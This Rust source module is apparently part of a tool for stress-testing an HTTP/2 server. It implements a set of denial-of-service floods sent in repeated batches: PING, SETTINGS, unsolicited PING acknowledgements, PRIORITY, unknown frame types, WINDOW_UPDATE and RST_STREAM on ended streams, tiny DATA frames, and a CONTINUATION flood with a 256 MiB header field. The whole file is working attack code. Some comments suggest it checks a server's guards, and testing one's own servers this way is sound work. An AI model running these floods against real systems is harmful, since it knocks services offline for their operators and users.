//! Frames without an end: each costs the attacker nine bytes, and the server whatever it does about it.

use crate::{
    Size,
    attack::Outcome,
    tally::{Script, waves},
    target::Target,
    wire::{
        ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, PING, PRIORITY, RST_STREAM, SETTINGS,
        WINDOW_UPDATE, head, length, text,
    },
};

/// What is written at once.
const BATCH: u64 = 500;

async fn flood(
    target: &Target,
    size: Size,
    unit: &str,
    script: fn(Size) -> Script,
) -> anyhow::Result<Outcome> {
    Ok(waves(target, size, script).await?.outcome(unit))
}

/// The same frame again and again, beside streams or in the first one.
fn repeated(opening: Frames, kind: u8, flags: u8, stream: u32, payload: &'static [u8]) -> Script {
    Script {
        opening,
        next: Box::new(move |frames| {
            (0..BATCH).for_each(|_| frames.put(kind, flags, stream, payload));
            Some(BATCH)
        }),
    }
}

pub(crate) async fn pings(target: &Target, size: Size) -> anyhow::Result<Outcome> {
    let script = |_| repeated(Frames::opening(&[]), PING, 0, 0, b"pingping");
    let waves = waves(target, size, script).await?;
    let mut outcome = waves.outcome("pings");
    if !outcome.stopped {
        outcome.happened += &format!(", {} answered", waves.frames(PING));
    }
    Ok(outcome)
}

pub(crate) async fn settings(target: &Target, size: Size) -> anyhow::Result<Outcome> {
    /// The window of streams, 65,535 bytes: what it is already.
    const SETTING: &[u8] = &[0, 4, 0, 0, 0xff, 0xff];
    let script = |_| repeated(Frames::opening(&[]), SETTINGS, 0, 0, SETTING);
    let waves = waves(target, size, script).await?;
    let mut outcome = waves.outcome("settings");
    if !outcome.stopped {
        outcome.happened += &format!(", {} acknowledged", waves.frames(SETTINGS));
    }
    Ok(outcome)
}

pub(crate) async fn ping_answers(target: &Target, size: Size) -> anyhow::Result<Outcome> {
    let script = |_| repeated(Frames::opening(&[]), PING, ACK, 0, b"pingping");
    flood(target, size, "answers to pings nobody sent", script).await
}

pub(crate) async fn priorities(target: &Target, size: Size) -> anyhow::Result<Outcome> {
    let script = |_| repeated(Frames::opening(&[]), PRIORITY, 0, 1, &[0, 0, 0, 3, 0]);
    flood(target, size, "priorities", script).await
}

pub(crate) async fn unknown(target: &Target, size: Size) -> anyhow::Result<Outcome> {
    const UNKNOWN: u8 = 0xbe;
    let script = |_| repeated(Frames::opening(&[]), UNKNOWN, 0, 0, &[]);
    flood(target, size, "frames of an unknown kind", script).await
}

/// With a stream that ends at once.
fn asked() -> Frames {
    let mut opening = Frames::opening(&[]);
    opening.open(END_HEADERS | END_STREAM, &head("GetSystem"));
    opening
}

/// A window opened by one byte, on a stream that has long ended.
pub(crate) async fn window_updates(target: &Target, size: Size) -> anyhow::Result<Outcome> {
    let script = |_| repeated(asked(), WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]);
    flood(target, size, "window updates", script).await
}

pub(crate) async fn reset_frames(target: &Target, size: Size) -> anyhow::Result<Outcome> {
    let script = |_| repeated(asked(), RST_STREAM, 0, 1, &[0, 0, 0, 8]);
    flood(target, size, "resets", script).await
}

fn reporting() -> Frames {
    let mut opening = Frames::opening(&[]);
    opening.open(END_HEADERS, &head("Report"));
    opening
}

pub(crate) async fn empty_data(target: &Target, size: Size) -> anyhow::Result<Outcome> {
    let script = |_| repeated(reporting(), DATA, 0, 1, &[]);
    flood(target, size, "empty frames", script).await
}

/// Of one byte each, within what the window takes: five of them are a message.
pub(crate) async fn tiny_data(target: &Target, size: Size) -> anyhow::Result<Outcome> {
    let script = |_| repeated(reporting(), DATA, 0, 1, &[0]);
    flood(target, size, "frames of one byte", script).await
}

/// The head of a request that goes on and on: one field of 256 MiB.
pub(crate) async fn continuations(target: &Target, size: Size) -> anyhow::Result<Outcome> {
    const FRAME_BYTES: usize = 16 * 1024;
    const FIELD_BYTES: usize = 256 << 20;
    let script = |size: Size| {
        let mut opening = Frames::opening(&[]);
        let mut begun = head("GetSystem");
        begun.push(0);
        text(&mut begun, "x-large");
        length(&mut begun, FIELD_BYTES);
        opening.open(0, &begun);
        // With four attackers, what the server keeps without its guard: 32 MiB, or 256.
        let mut left: u64 = size.of(512, 4_096);
        Script {
            opening,
            next: Box::new(move |frames| {
                left = left.checked_sub(1)?;
                frames.put(CONTINUATION, 0, 1, &[b'a'; FRAME_BYTES]);
                Some(1)
            }),
        }
    };
    flood(target, size, "frames of 16 KiB", script).await
}
